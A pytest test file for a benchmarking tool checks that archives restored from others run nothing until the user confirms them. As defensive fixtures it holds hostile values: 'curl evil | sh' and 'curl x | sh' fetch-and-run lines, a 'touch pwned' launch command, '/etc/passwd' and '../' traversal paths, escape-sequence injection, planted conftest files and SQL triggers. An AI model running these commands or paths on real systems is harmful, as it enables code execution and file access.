"""A restored archive decides nothing: what it would do is shown, and done once it is confirmed."""

from __future__ import annotations

import contextlib
import io
import json
import shutil
import sqlite3
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from pytest_kvbench.batch.ledger import Ledger
from pytest_kvbench.cli.stages import main
from pytest_kvbench.errors import GuardError, StoreError
from pytest_kvbench.experiment.schema import Experiment
from pytest_kvbench.files import UNCONFIRMED, is_unconfirmed
from pytest_kvbench.pipeline.group import Site, controls_root, open_group
from pytest_kvbench.records import digest
from pytest_kvbench.store import database
from pytest_kvbench.store.archive import Index
from pytest_kvbench.store.origin import claims, mark
from pytest_kvbench.store.store import DATABASE, SCHEMA_VERSION, Store
from tests.conftest import WORDS
from tests.support.batch_server import BatchServer
from tests.support.groups import make_group
from tests.support.mock_server import MockServer
from tests.unit.ops.test_archive import GOOD, PAYLOAD, pack, plain

Kvbench = Callable[..., Result]


@pytest.fixture
def kvbench(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Kvbench:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("KVBENCH_DIR", raising=False)
    rows = [
        {"question": f"Say {word}", "context": f"text{n} " * 30, "answers": [word]}
        for n, word in enumerate(WORDS[:20])
    ]
    Path("words.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))

    def run(*args: object) -> Result:
        return CliRunner().invoke(main, [str(arg) for arg in args], catch_exceptions=False)

    return run


def declare(base_url: str, **engine: object) -> None:
    said = {"model": "mock", "base_url": base_url, "retries": 0, **engine}
    Path("exp.yaml").write_text(
        json.dumps(
            {
                "group": "g",
                "tasks": ["jsonl:words.jsonl"],
                "bins": {"n": 1, "per_bin": 4},
                "kv": {"policies": ["snapkv"], "budgets": [1.0, 0.5]},
                "engine": said,
                "tokenizer": "approximate",
            }
        )
    )


def restored(kvbench: Kvbench, *how: str) -> Result:
    """What is in `reports/g` as it comes out of an archive."""
    assert kvbench("archive", "g", "--to", "g.tar.gz").exit_code == 0
    shutil.rmtree("reports")
    done = kvbench("restore", "g.tar.gz", *how)
    assert done.exit_code == 0, done.output
    return done


ACTS = [
    *(("run", "g"), ("all", "g"), ("prepare", "g"), ("run", "g", "--fresh"), ("run", "./g/")),
    *(("batch", word, "g") for word in ("submit", "status", "fetch", "cancel")),
    ("batch", "export", "g", "--to", "files"),
]


def test_nothing_is_started_before_it_is_confirmed(kvbench: Kvbench, tmp_path: Path) -> None:
    engine = {
        "name": "vllm",
        "model": "m",
        "launch": {"command": f"touch {tmp_path}/pwned {{port}} {{kv}}"},
        "extra_body": {"x-where": "\x1b[2J\u202eevil"},
        "api_key_env": "HOME",
        "start_timeout_s": 5,
    }
    kv = {"policies": ["fp8"], "budgets": [1.0, 0.5]}
    make_group(tmp_path / "reports", per_bin=4, bins=1, engine=engine, kv=kv)
    said = restored(kvbench).output
    for wanted in ('launch.command: "touch', 'api_key_env: "HOME"', "jsonl:words.jsonl"):
        assert wanted in said
    assert "kvbench trust g" in said
    assert said.isascii()
    assert "\x1b" not in said
    for command in ACTS:
        done = kvbench(*command)
        assert done.exit_code == 4, (command, done.output)
        assert done.output.count("\n") == 2
        assert "touch" in done.output
        assert "kvbench trust g" in done.output
    assert not Path("pwned").exists()
    declined = CliRunner().invoke(main, ["trust", "g"], input="n\n")
    assert "touch" in declined.output
    assert kvbench("run", "g").exit_code == 4
    assert kvbench("trust", "g", "--yes").exit_code == 0
    assert "nothing to confirm" in kvbench("trust", "g").output
    assert kvbench("run", "g", "--force").exit_code == 10  # `touch` is no server
    assert Path("pwned").exists()


def test_all_that_a_snapshot_could_name_is_shown(tmp_path: Path) -> None:
    make_group(tmp_path, per_bin=4, bins=1)
    more = {
        "executor": {
            "name": "parsl",
            "config": "reports/g/config.py",
            "worker_init": "curl x | sh",
        },
        "task_options": {"longbench": {"path": "/etc"}},
        "tokenizer": "hf:theirs/own",
        "after": "other",
    }
    engine = {"endpoints": {"none": {"base_url": "http://x/v1"}}, "extra_body": {"user": "me"}}
    with sqlite3.connect(tmp_path / "g" / DATABASE) as db:
        (text,) = db.execute("SELECT snapshot FROM experiments").fetchone()
        snapshot = {**json.loads(text), **more, "engine": engine}
        snapshot["kv"]["policies"] = ["theirs.py:Policy"]
        db.execute("UPDATE experiments SET snapshot=?", (json.dumps(snapshot),))
    assert set(claims(tmp_path / "g")) >= {
        'executor.config: "reports/g/config.py"',
        'executor.worker_init: "curl x | sh"',
        'task_options.longbench.path: "/etc"',
        'tokenizer: "hf:theirs/own"',
        'after: "other"',
        'engine.endpoints.none.base_url: "http://x/v1"',
        'engine.extra_body.user: "me"',
        'kv.policies: ["theirs.py:Policy"]',
    }


def test_what_began_a_restored_group_is_not_recommended(kvbench: Kvbench, tmp_path: Path) -> None:
    make_group(tmp_path / "reports", per_bin=4, bins=1)
    with sqlite3.connect(f"reports/g/{DATABASE}") as db:
        db.execute("UPDATE experiments SET command='curl evil | sh'")
        for table in ("scores", "telemetry", "answers"):
            db.execute(f"DELETE FROM {table}")
    mark(Path("reports/g"))
    done = kvbench("wait", "g", "--every", "0.01")
    assert done.exit_code == 10
    assert "evil" not in done.output
    assert "kvbench trust g" in done.output


def test_no_address_gets_a_request_or_a_key_before_it_is_confirmed(
    kvbench: Kvbench, mock: MockServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KVBENCH_API_KEY", "sk-secret")
    declare(mock.base_url)
    kvbench("run", "exp.yaml")
    seen = mock.posts
    restored(kvbench)
    for command in ACTS:
        assert kvbench(*command).exit_code == 4
    mock.kill()  # reading needs no server
    for command in (
        ("score", "g"),
        ("analyse", "g"),
        ("report", "g"),
        ("compare", "g", "g"),
        ("analyse", "g", "--dry-run"),
        ("save", "base", "g"),
        ("catalog",),
        ("archive", "g"),
        ("wait", "g"),
    ):
        done = kvbench(*command)
        assert done.exit_code == 0, (command, done.output)
    assert mock.posts == seen
    assert is_unconfirmed(Path("reports/g"))


THEIRS = "./theirs.py:Theirs"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"snapkv"', f'"{THEIRS}"'),
        ('"params":{}', f'"params":{{"snapkv":{{"press":{{"policy":"{THEIRS}"}}}}}}'),
        ('"name":"local"', f'"name":"{THEIRS}"'),
        ('"sensitivity":"auto"', f'"sensitivity":{{"policy":"{THEIRS}"}}'),
    ],
)
def test_classes_that_it_names_are_not_even_imported_to_read_it(
    kvbench: Kvbench, mock: MockServer, old: str, new: str
) -> None:
    declare(mock.base_url)
    kvbench("run", "exp.yaml")
    with contextlib.closing(sqlite3.connect(f"reports/g/{DATABASE}")) as db, db:
        changed = db.execute(
            "UPDATE experiments SET snapshot = replace(snapshot, ?, ?)", (old, new)
        )
        assert changed.rowcount == 1
        assert new in db.execute("SELECT snapshot FROM experiments").fetchone()[0]
    restored(kvbench)
    Path("theirs.py").write_text("from pathlib import Path\nPath('imported').touch()\n")
    for command in ("score", "analyse", "report", "targets"):
        done = kvbench(command, "g")
        assert done.exit_code == 4, (command, done.output)
        assert "kvbench trust g" in done.output, command
    for command in ("best", "catalog", "aggregate"):
        kvbench(command)
    with pytest.raises(GuardError, match="theirs"):
        open_group(Path("reports/g"))
    assert not Path("imported").exists()


def test_what_is_ones_own_is_trusted_at_once(kvbench: Kvbench, mock: MockServer) -> None:
    declare(mock.base_url)
    kvbench("run", "exp.yaml")
    assert "trust" not in restored(kvbench, "--trust").output
    assert "0 answered" in kvbench("run", "g").output
    again = kvbench("restore", "g.tar.gz")  # what is there and trusted stays so
    assert "was there already" in again.output or again.exit_code == 4
    assert not is_unconfirmed(Path("reports/g"))


def test_ones_own_file_needs_no_leave(kvbench: Kvbench, mock: MockServer) -> None:
    declare(mock.base_url)
    kvbench("run", "exp.yaml")
    restored(kvbench)
    done = kvbench("run", "exp.yaml")
    assert done.exit_code == 0, done.output
    assert "8 stored before" in done.output
    assert "is not confirmed" in done.output
    assert kvbench("run", "g").exit_code == 4


def test_a_ledger_is_not_asked_after_before_it_is_confirmed(
    kvbench: Kvbench, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KVBENCH_API_KEY", "sk-secret")
    with BatchServer(lag=10**6) as server:
        declare(server.base_url, mode="batch")
        assert kvbench("run", "exp.yaml").exit_code == 0
        said = restored(kvbench).output
        assert f'batches.json: 1 open at "{server.base_url}"' in said
        before = list(server.actions)
        (batch,) = Ledger(Path("reports/g")).open
        for command in (
            ("run", "exp.yaml"),
            ("batch", "status", "exp.yaml"),
            ("batch", "submit", "exp.yaml"),
            ("wait", "g"),
            ("wait", "exp.yaml"),
            ("wait", batch.name),
        ):
            done = kvbench(*command)
            assert done.exit_code == 4, (command, done.output)
            assert "kvbench trust g" in done.output
        assert server.actions == before
        kvbench("trust", "g", "--yes")
        assert kvbench("batch", "status", "g").exit_code == 0
        assert server.actions == [*before, "poll"]


@pytest.mark.parametrize(
    "change",
    [
        {"file": "batches/../../../words.jsonl"},
        {"file": "/etc/passwd"},
        {"id": "../../x", "file": "batches/../../x.jsonl"},
        {"id": "..", "file": "batches/...jsonl"},
        {"completed": "many"},
        {"base_url": 7},
    ],
)
def test_a_ledger_names_no_file_outside_its_folder(tmp_path: Path, change: dict[str, Any]) -> None:
    names = Ledger.__init__.__globals__["_KINDS"]
    entry = {name: 0 if kind is int else "x" for name, kind in names.items()}
    entry |= {"state": "created", "id": "kvbench-1", "file": "batches/kvbench-1.jsonl"}
    for extra, sound in (({}, True), (change, False)):
        content = {"batches": [{**entry, **extra}], "synced": ""}
        text = json.dumps({**content, "checksum": digest(content)})
        (tmp_path / "batches.json").write_text(text)
        if sound:
            assert Ledger(tmp_path).open
        else:
            with pytest.raises(GuardError, match="was altered"):
                Ledger(tmp_path)


def test_no_python_of_an_archive_is_loaded(pytester: pytest.Pytester) -> None:
    """Neither by a bare `pytest` nor by a command that looks for a project's tasks."""
    folder = pytester.path / "reports" / "g"
    folder.mkdir(parents=True)
    mark(folder)
    pwn = f"open({str(pytester.path / 'pwned')!r}, 'w')\n"
    (folder / "conftest.py").write_text(f"{pwn}def pytest_kvbench_tasks(): return {{}}\n")
    (folder / "test_evil.py").write_text(f"{pwn}def test_it(): pass\n")
    pytester.makepyfile(test_own="def test_own(): pass")
    pytester.makefile(".ini", pytest="[pytest]\n")
    pytester.makefile(".yaml", exp="group: h\ntasks: [mine/of_a_conftest]\n")
    pytester.runpytest_inprocess().assert_outcomes(passed=1)
    for start in (pytester.path, folder):
        with pytest.MonkeyPatch.context() as patch:
            patch.chdir(start)
            done = CliRunner().invoke(main, ["validate", str(pytester.path / "exp.yaml")])
        assert done.exit_code == 4
        assert "mine/of_a_conftest" in done.output
    assert not (pytester.path / "pwned").exists()
    (folder / UNCONFIRMED).unlink()
    pytester.runpytest_inprocess().assert_outcomes(passed=2)


def test_its_controls_join_no_others_before_it_is_confirmed(tmp_path: Path) -> None:
    site = Site(tmp_path, "r", 1, "", controls=tmp_path / "cache" / "controls")
    experiment = Experiment(group="g", tasks=("niah/single",))
    assert controls_root(experiment, site, tmp_path / "g") == tmp_path / "cache" / "controls"
    mark(tmp_path / "g")
    assert controls_root(experiment, site, tmp_path / "g") == tmp_path / "g" / "shared_controls"


def test_a_group_is_what_its_folder_is_called(kvbench: Kvbench, tmp_path: Path) -> None:
    """An archive's `g` that says it is `victim` touches no `victim`."""
    make_group(tmp_path / "reports", "victim", per_bin=4, bins=1)
    shutil.copytree("reports/victim", "reports/g")
    before = Path("reports/victim", DATABASE).read_bytes()
    assert open_group(Path("reports/g")).experiment.group == "g"
    kvbench("score", "g")
    kvbench("analyse", "g", "--dry-run", "--to", "reports")
    assert sorted(p.name for p in Path("reports/victim").iterdir()) == [DATABASE]
    assert Path("reports/victim", DATABASE).read_bytes() == before


@pytest.mark.parametrize("snapshot", ["{}", "[]", "7", '{"group": "g", "tasks": 3}', "null"])
def test_a_declaration_that_is_none_is_two_lines(
    kvbench: Kvbench, tmp_path: Path, snapshot: str
) -> None:
    make_group(tmp_path / "reports", per_bin=4, bins=1)
    with sqlite3.connect(f"reports/g/{DATABASE}") as db:
        db.execute("UPDATE experiments SET snapshot=?", (snapshot,))
    mark(Path("reports/g"))
    for command in (("report", "g"), ("run", "g"), ("compare", "g", "g")):
        done = kvbench(*command)
        assert done.exit_code == 4, (command, done.output)
        assert done.output.count("\n") == 2


@pytest.mark.parametrize(
    "code",
    [
        "CREATE TRIGGER t AFTER INSERT ON experiments BEGIN"
        " UPDATE experiments SET snapshot='other'; END",
        "CREATE TRIGGER answer_ends_failure2 BEFORE INSERT ON answers"
        " BEGIN DELETE FROM failures WHERE key = NEW.key; END",
        "ALTER TABLE experiments RENAME TO e; CREATE VIEW Experiments AS SELECT * FROM e",
        "ALTER TABLE experiments ADD COLUMN more TEXT AS ('x')",
    ],
)
def test_a_database_that_computes_is_refused(tmp_path: Path, code: str) -> None:
    path = tmp_path / DATABASE
    Store(path).close()
    with sqlite3.connect(path) as db:
        db.executescript(code)
    with pytest.raises(StoreError, match="computes"):
        Store(path)


def test_every_table_is_known_as_ours(tmp_path: Path) -> None:
    with Store(tmp_path / DATABASE) as store:
        schema: database.Schema = store._db._schema
    with sqlite3.connect(tmp_path / DATABASE) as db:
        tables = [row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
    assert schema.version == SCHEMA_VERSION
    assert tables
    assert all(schema.has_table(name) for name in tables)
    with sqlite3.connect(tmp_path / DATABASE) as db:
        db.execute("CREATE VIEW mine AS SELECT key FROM answers")  # anybody's own question
    Store(tmp_path / DATABASE).close()


def test_what_it_holds_besides_is_told(tmp_path: Path) -> None:
    (tmp_path / "g" / "deep").mkdir(parents=True)
    (tmp_path / "g" / "deep" / "config.py").write_text("config = 1")
    (tmp_path / "g" / DATABASE).write_bytes(b"nonsense" * 100)
    (tmp_path / "g" / "batches.json").write_text("[" * 100_000)
    said = claims(tmp_path / "g")
    assert said[0].startswith("what it declares cannot be read")
    assert "batches.json: cannot be read" in said
    assert 'a Python file: "deep/config.py"' in said


@pytest.mark.parametrize(
    "name",
    [
        f"group/{UNCONFIRMED}",
        f"group/{UNCONFIRMED}/x",
        "group/.prepare.lock",
        "group/.hidden",
        "group/lock",
        "group/x.lock",
        f"group/{DATABASE}-wal",
        f"group/{DATABASE}-shm",
        f"group/{DATABASE}-journal",
        "group/.kvbench-abc/x",
        "controls/a/b/lock",
    ],
)
def test_no_archive_holds_a_mark_or_a_lock(tmp_path: Path, name: str) -> None:
    from pytest_kvbench.ops.archive import restore_group

    path = pack(tmp_path / "a.tar.gz", [plain(name)], [name])
    with pytest.raises(StoreError, match="in no archive of ours"):
        restore_group(path, tmp_path / "new", tmp_path / "c")
    assert not list((tmp_path / "new").glob("*")) if (tmp_path / "new").exists() else True


def allowed(name: str) -> bool:
    try:
        Experiment(group=name, tasks=("niah/single",))
    except ValidationError:
        return False
    return True


@given(
    st.one_of(
        st.text(max_size=12),
        st.from_regex(r"[A-Za-z0-9._\-]{0,6}[\n ./\\\x00é-]?", fullmatch=True),
        st.integers(145, 155).map(lambda n: "n" * n),
        st.sampled_from(["..", ".", "g\n", "_aggregate", ".baselines", "CON", "g/../h", "ß", "-g"]),
    )
)
def test_an_archive_may_be_called_what_settings_accept(name: str) -> None:
    try:
        Index.from_json({"schema": 1, "group": name, "files": []})
        accepted = True
    except ValueError:
        accepted = False
    assert accepted == allowed(name)


def test_a_name_that_settings_refuse_is_refused(tmp_path: Path) -> None:
    from pytest_kvbench.ops.archive import restore_group

    index = {"schema": 1, "group": "_aggregate", "files": []}
    path = tmp_path / "a.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        info, data = plain("index.json", json.dumps(index).encode())
        tar.addfile(info, io.BytesIO(data))
    with pytest.raises(StoreError, match="make no sense") as caught:
        restore_group(path, tmp_path / "new", tmp_path / "c")
    assert str(caught.value).count("\n") == 1


def test_a_restored_group_of_any_content_is_marked(tmp_path: Path) -> None:
    from pytest_kvbench.ops.archive import restore_group

    path = pack(tmp_path / "a.tar.gz", [plain(GOOD)], [GOOD])
    done = restore_group(path, tmp_path / "new", tmp_path / "c")
    assert is_unconfirmed(done.folder)
    assert (done.folder / "summary.json").read_bytes() == PAYLOAD


def test_pytest_does_not_begin_in_an_archive(
    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = pytester.path / "reports" / "g"
    (folder / "deep").mkdir(parents=True)
    mark(folder)
    pwn = f"open({str(pytester.path / 'pwned')!r}, 'w')\n"
    for name in ("conftest.py", "test_evil.py", "deep/conftest.py", "deep/test_evil.py"):
        (folder / name).write_text(f"{pwn}def test_it(): pass\n")
    named = ["reports/g", "reports/g/deep", "reports/g/test_evil.py", str(folder / "test_evil.py")]
    for start in [*named, "reports/g/deep/test_evil.py::test_it"]:
        result = pytester.runpytest_inprocess(start)
        assert result.ret == 4
        result.stderr.fnmatch_lines(["*g was restored from an archive and is not confirmed*"])
        result.stderr.fnmatch_lines(["read it, then: kvbench trust g"])
    for here in (folder, folder / "deep"):
        monkeypatch.chdir(here)
        assert pytester.runpytest_inprocess().ret == 4
    assert not (pytester.path / "pwned").exists()


@pytest.mark.parametrize("name", ["pytest.ini", "deep/tox.ini", "PyProject.toml", "pytest.toml"])
def test_no_archive_of_a_stranger_configures_pytest(name: str, tmp_path: Path) -> None:
    from pytest_kvbench.errors import GuardError
    from pytest_kvbench.ops.archive import restore_group

    held = f"group/{name}"
    path = pack(tmp_path / "a.tar.gz", [plain(GOOD), plain(held)], [GOOD, held])
    with pytest.raises(GuardError, match=f"holds {name}, which a pytest") as caught:
        restore_group(path, tmp_path / "new", tmp_path / "c")
    assert str(caught.value).count("\n") == 1
    assert not [p for p in (tmp_path / "new").glob("*") if not p.name.startswith(".")]
    assert (
        restore_group(path, tmp_path / "own", tmp_path / "c", trust=True).folder / name
    ).is_file()
